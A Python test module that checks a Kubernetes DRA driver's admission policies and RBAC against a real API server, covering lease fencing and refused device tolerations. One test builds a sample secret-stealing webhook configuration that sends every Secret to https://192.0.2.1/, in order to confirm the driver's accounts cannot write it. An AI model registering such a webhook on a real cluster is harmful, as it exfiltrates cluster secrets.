"""The admission policies on the driver's own accounts, judged by the real API server (``DRA_K8S_BIN``).

RBAC is in force as well, so what is let through needs no more rights than the manifests give.
"""

from __future__ import annotations

import asyncio
import dataclasses
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import pytest
from policy_cases import (
    APPLY,
    CERTIFICATES,
    CLAIMS,
    LEADER,
    LEASES,
    MERGE,
    SLICES,
    WEBHOOKS,
    Write,
    cases,
    slice_,
)
from policy_world import (
    FENCE,
    Accounts,
    by_itself,
    check,
    describe_nodes,
    only_the_holder_writes,
    settled,
    world,
)
from real_apiserver import RealApiServer, gate_flag, real_apiserver
from real_gates import taint_flags

from dra_driver.api.names import DEFAULT_DRIVER_NAME

T = TypeVar("T")

# Of 1.34 and 1.35: "patch" on the status is all that a write of it needs.
GATE = "DRAResourceClaimGranularStatusAuthorization"
OLDER = f"--feature-gates={GATE}=false"


@pytest.fixture(scope="module", params=[(), (OLDER,)], ids=["1.36", "as 1.34"])
def server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RealApiServer]:
    if request.param:
        gate_flag(GATE)  # skips where the server is that old anyway
    folder: Path = tmp_path_factory.mktemp("real")
    older = "--runtime-config=resource.k8s.io/v1beta1=true,resource.k8s.io/v1beta2=true"
    with real_apiserver(folder, older, *taint_flags().server, *request.param) as started:
        yield started


def run(server: RealApiServer, scenario: Callable[[Accounts], Awaitable[T]]) -> T:
    async def main() -> T:
        async with await server.client() as admin, world(server.client, admin) as made:
            await settled(made, Write("", "standby", "POST", SLICES, slice_("s", DEFAULT_DRIVER_NAME), FENCE))
            return await scenario(made)

    return asyncio.run(main())


def test_every_write_gets_its_verdict(server: RealApiServer) -> None:
    async def scenario(made: Accounts) -> list[tuple[str, str, str]]:
        await describe_nodes(made.admin)
        table = list(cases())
        for policy in {w.refused for w in table if w.refused}:
            await settled(made, next(w for w in table if w.refused == policy))
        found = [(w, await made.send(w)) for w in table]
        return [
            (f"{w.by} {w.what}", w.refused, verdict)
            for w, verdict in found
            if verdict != w.refused and not (w.refused and by_itself(verdict))
        ]

    assert run(server, scenario) == []


@pytest.mark.parametrize("kind", ["validatingwebhookconfigurations", "mutatingwebhookconfigurations"])
def test_no_account_writes_webhook_configurations(server: RealApiServer, kind: str) -> None:
    """With one it could have every Secret of the cluster sent to it; no admission policy ever sees them.

    The controller reads what sets the gate.
    """
    path = f"{WEBHOOKS}/{kind}"
    stolen: dict[str, Any] = {
        "webhooks": [
            {
                "name": "theft.example.com",
                "clientConfig": {"url": "https://192.0.2.1/"},
                "admissionReviewVersions": ["v1"],
                "sideEffects": "None",
                "failurePolicy": "Ignore",
                "rules": [
                    {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}
                ],
            }
        ]
    }
    applied = {"fieldManager": "dra-driver-admission", "force": "true"}
    which = "Validating" if kind.startswith("v") else "Mutating"
    object_: dict[str, Any] = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": f"{which}WebhookConfiguration",
        "metadata": {"name": CERTIFICATES},
        **stolen,
    }

    async def scenario(made: Accounts) -> None:
        await made.admin._call("POST", path, body={**object_, "webhooks": []})
        try:
            for by in ("controller", "standby", "agent"):
                verdict = await made.send(Write("reads", by, "GET", f"{path}/{CERTIFICATES}", {}))
                reads = which == "Mutating" and by != "agent"
                assert ("is forbidden" in verdict, verdict == "") == (not reads, reads), by
                for write in (
                    Write("lists", by, "GET", path, {}),
                    Write("patches", by, "PATCH", f"{path}/{CERTIFICATES}", stolen, "", MERGE),
                    Write("applies", by, "PATCH", f"{path}/{CERTIFICATES}", object_, "", APPLY, applied),
                    Write("replaces", by, "PUT", f"{path}/{CERTIFICATES}", object_),
                    Write("makes another", by, "POST", path, {**object_, "metadata": {"name": "x"}}),
                    Write("deletes", by, "DELETE", f"{path}/{CERTIFICATES}", {}),
                ):
                    assert "is forbidden" in await made.send(write), f"{by} {write.what}"
        finally:
            await made.admin._call("DELETE", f"{path}/{CERTIFICATES}", body={})

    run(server, scenario)


# --- the fence ----------------------------------------------------------------------------------------------


def test_only_the_pod_that_holds_the_lease_writes(server: RealApiServer) -> None:
    run(server, only_the_holder_writes)


def test_a_credential_without_a_pod_does_not_write(server: RealApiServer) -> None:
    async def scenario(made: Accounts) -> None:
        await check(made, "podless", FENCE)
        (entry,) = [w for w in cases() if w.what == "says that its device is well"]
        refused = dataclasses.replace(entry, by="nodeless", refused="dra-driver-plugin-claims")
        verdict = await made.send(refused)
        assert verdict == refused.refused or by_itself(verdict)

    run(server, scenario)


def test_without_the_lease_nobody_is_refused(server: RealApiServer) -> None:
    """The API server looks for the Lease before it looks at who writes: everybody would be refused."""

    async def scenario(made: Accounts) -> None:
        await check(made, "standby", FENCE)
        await made.admin._call("DELETE", f"{LEASES}/dra-driver-controller", body={})
        await check(made, "standby", "")
        assert await made.send(Write("", "admin", "POST", SLICES, slice_("new", "gpu.example.com"))) == ""
        await made.hold(f"{LEADER}_1234")
        await check(made, "standby", FENCE)

    run(server, scenario)


# --- tolerations --------------------------------------------------------------------------------------------

NO_TOLERATION = "dra-driver-no-toleration"
CATCH_ALL = {"operator": "Exists"}


def claim_of(version: str, request: dict[str, Any], *, template: bool = False) -> Write:
    """A claim or template with one request."""
    spec: dict[str, Any] = {"devices": {"requests": [request]}}
    kind, plural = (
        ("ResourceClaimTemplate", "resourceclaimtemplates")
        if template
        else ("ResourceClaim", "resourceclaims")
    )
    body = {
        "apiVersion": f"resource.k8s.io/{version}",
        "kind": kind,
        "metadata": {"name": "tolerant", "namespace": "tenant"},
        "spec": {"spec": spec} if template else spec,
    }
    path = f"/apis/resource.k8s.io/{version}/namespaces/tenant/{plural}"
    return Write("", "admin", "POST", path, body, NO_TOLERATION)


def test_every_version_of_the_api_is_held_to_tolerate_nothing(server: RealApiServer) -> None:
    """Requests in older versions are converted before they are judged."""
    asked = {"deviceClassName": "any", "tolerations": [CATCH_ALL]}
    exactly = {"name": "r", "exactly": asked}
    subrequest = {"name": "s", **asked}
    first = {"name": "r", "firstAvailable": [subrequest]}

    async def scenario(made: Accounts) -> None:
        for template in (False, True):
            writes = [
                claim_of("v1", exactly, template=template),
                claim_of("v1", first, template=template),
                claim_of("v1beta2", exactly, template=template),
                claim_of("v1beta2", first, template=template),
                claim_of("v1beta1", {"name": "r", **asked}, template=template),
                claim_of("v1beta1", first, template=template),
            ]
            assert [await made.send(w) for w in writes] == [NO_TOLERATION] * len(writes)

    run(server, scenario)


def test_no_class_brings_a_toleration_and_no_update_adds_one(server: RealApiServer) -> None:
    async def scenario(made: Accounts) -> None:
        spec = {"selectors": [], "config": [], "tolerations": [CATCH_ALL]}
        body = {
            "apiVersion": "resource.k8s.io/v1",
            "kind": "DeviceClass",
            "metadata": {"name": "c"},
            "spec": spec,
        }
        query = {"fieldValidation": "Strict"}
        classes = "/apis/resource.k8s.io/v1/deviceclasses"
        assert "unknown field" in await made.send(Write("", "admin", "POST", classes, body, query=query))
        requests = [{"name": "gpu", "exactly": {"deviceClassName": "any", "tolerations": [CATCH_ALL]}}]
        patch = {"spec": {"devices": {"requests": requests}}}
        verdict = await made.send(Write("", "admin", "PATCH", f"{CLAIMS}/free", patch, "", MERGE))
        assert "immutable" in verdict

    run(server, scenario)


def test_the_largest_claims_are_judged_within_the_limits_of_cel(server: RealApiServer) -> None:
    """32 requests, the most that there may be, each with 8 alternatives that tolerate something else."""
    sick = [{"key": f"example.com/sick-{i}", "operator": "Exists"} for i in range(16)]

    def spec(last: dict[str, Any]) -> Write:
        requests = [
            {
                "name": f"r{i}",
                "firstAvailable": [
                    {"name": f"s{k}", "deviceClassName": "any", "tolerations": sick} for k in range(8)
                ],
            }
            for i in range(32)
        ]
        requests[-1]["firstAvailable"][-1]["tolerations"] = [*sick[1:], last]  # type: ignore[index]
        write = claim_of("v1", requests[0])
        write.body["spec"]["devices"]["requests"] = requests
        return write

    async def scenario(made: Accounts) -> None:
        assert await made.send(spec(sick[0])) == ""
        assert await made.send(spec(CATCH_ALL)) == NO_TOLERATION

    run(server, scenario)
